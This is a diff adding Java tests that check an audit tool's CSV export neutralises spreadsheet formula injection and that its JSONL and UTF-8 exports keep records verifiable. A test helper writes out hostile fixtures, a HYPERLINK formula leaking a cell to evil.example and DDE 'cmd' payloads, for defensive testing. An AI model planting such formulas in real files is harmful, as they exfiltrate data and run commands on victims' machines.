@@ -24,6 +24,7 @@ import java.time.Instant;
 import java.time.LocalDate;
 import java.time.ZoneOffset;
 import java.time.temporal.ChronoUnit;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import org.apache.commons.csv.CSVFormat;
@@ -163,6 +164,68 @@ class AuditCommandsProcessTest {
         assertThat(refused.get("targets")).isEqualTo("W0000CAROL:NOT_ATTEMPTED(not_org_admin)");
     }
 
+    /** What a spreadsheet takes for the start of a formula (OWASP's CSV injection list, and NUL from ASVS 1.2.10). */
+    static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r", "\0");
+
+    @Test
+    void csvExportQuotesEveryCellASpreadsheetWouldTakeForAFormulaAndJsonlKeepsTheExactText() throws IOException {
+        List<AuditStore.StoredRecord> formulas = appendRecordsStartingWithEachFormulaCharacter();
+
+        MainProcess.Finished csvRun = audit("export", "--format", "csv");
+
+        assertThat(csvRun.exitCode()).as(csvRun.describe()).isZero();
+        List<CSVRecord> rows = csvRows(csvRun.out());
+        assertThat(rows).hasSize(stored.size() + formulas.size());
+        for (CSVRecord row : rows) {
+            for (String cell : row) {
+                assertThat(FORMULA_STARTS).as("row %s, cell %s", row.get("seq"), cell)
+                        .noneMatch(cell::startsWith);
+            }
+        }
+        for (AuditStore.StoredRecord f : formulas) {
+            CSVRecord row = rows.get((int) f.seq() - 1);
+            AuditRecord r = f.record();
+            assertThat(row.get("scope")).isEqualTo("'" + r.scope());
+            assertThat(row.get("reason")).isEqualTo("'" + r.reason());
+            assertThat(row.get("detail")).isEqualTo("'" + r.detail());
+            assertThat(row.get("targets")).startsWith("'" + r.targets().get(0).userId() + ":");
+            assertThat(row.get("hash")).isEqualTo(f.hash());
+        }
+
+        MainProcess.Finished jsonlRun = audit("export", "--format", "jsonl");
+
+        assertThat(jsonlRun.exitCode()).as(jsonlRun.describe()).isZero();
+        List<String> lines = jsonlRun.out().lines().toList();
+        for (AuditStore.StoredRecord f : formulas) {
+            String line = lines.get((int) f.seq() - 1);
+            // As docs/SECURITY.md tells an auditor: the record's exact text sits between these two members.
+            String record = line.substring(line.indexOf("\"record\":") + 9, line.lastIndexOf(",\"prev_hash\":"));
+            assertThat(record).isEqualTo(AuditCodec.canonical(f.record()));
+            assertThat(AuditChain.hash(f.prevHash(), f.seq(), record)).isEqualTo(f.hash());
+            assertThat(AuditCodec.parse(record)).isEqualTo(f.record());
+        }
+    }
+
+    @Test
+    void exportsAreUtf8WhateverTheLocaleSoNonAsciiRecordsStillVerify() throws IOException {
+        // The process has no LANG or LC_ALL, as under cron or in a bare container: Java's default charset is ASCII.
+        AuditStore.StoredRecord zoe = append(new AuditRecord(FIRST.plusSeconds(180), ADMIN,
+                AuditRecord.SESSION_RESET, Outcome.SUCCEEDED, "All sessions", "Zoë’s phone 📱 — ünïcødé", "日本語",
+                List.of(new TargetResult("W0000ZOE", Status.DONE, null, "Déconnectée"))));
+
+        MainProcess.Finished jsonlRun = audit("export", "--format", "jsonl");
+        MainProcess.Finished csvRun = audit("export", "--format", "csv");
+
+        assertThat(jsonlRun.exitCode()).as(jsonlRun.describe()).isZero();
+        JsonObject line = JsonParser.parseString(jsonlRun.out().lines().toList().get(3)).getAsJsonObject();
+        assertThat(AuditCodec.parse(line.get("record").toString())).isEqualTo(zoe.record());
+        assertThat(AuditChain.hash(zoe.prevHash(), zoe.seq(), line.get("record").toString())).isEqualTo(zoe.hash());
+        assertThat(csvRun.exitCode()).as(csvRun.describe()).isZero();
+        CSVRecord row = csvRows(csvRun.out()).get(3);
+        assertThat(row.get("reason")).isEqualTo("Zoë’s phone 📱 — ünïcødé");
+        assertThat(row.get("detail")).isEqualTo("日本語");
+    }
+
     @Test
     void exportInAnUnknownFormatIsAUsageErrorWithNothingOnStdout() {
         MainProcess.Finished run = audit("export", "--format", "xml");
@@ -230,6 +293,32 @@ class AuditCommandsProcessTest {
     private static AuditRecord reset(Instant at, String reason, Outcome outcome, String target) {
         return new AuditRecord(at, ADMIN, AuditRecord.SESSION_RESET, outcome, "All sessions", reason, null,
                 List.of(new TargetResult(target, Status.DONE, null, "Signed out of all sessions")));
+    }
+
+    /** One record for each character: its scope, reason, detail, target and the target's words start with it. */
+    private List<AuditStore.StoredRecord> appendRecordsStartingWithEachFormulaCharacter() {
+        List<AuditStore.StoredRecord> appended = new ArrayList<>();
+        for (int i = 0; i < FORMULA_STARTS.size(); i++) {
+            String c = FORMULA_STARTS.get(i);
+            appended.add(append(new AuditRecord(FIRST.plusSeconds(200 + i), ADMIN, AuditRecord.SESSION_RESET,
+                    Outcome.FAILED, c + "All sessions", c + "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+                    c + "cmd|' /C calc'!A0", List.of(new TargetResult(c + "W0000EVE", Status.FAILED,
+                            c + "user_not_found", c + "2+5+cmd|' /C calc'!A0")))));
+        }
+        return appended;
+    }
+
+    private AuditStore.StoredRecord append(AuditRecord record) {
+        try (Database db = Database.open(new Secret(databaseUrl))) {
+            return new JdbcAuditStore(db, Clock.systemUTC()).append(record);
+        }
+    }
+
+    private static List<CSVRecord> csvRows(String csv) throws IOException {
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv))) {
+            return parser.getRecords();
+        }
     }
 
     private void sql(String statement) {
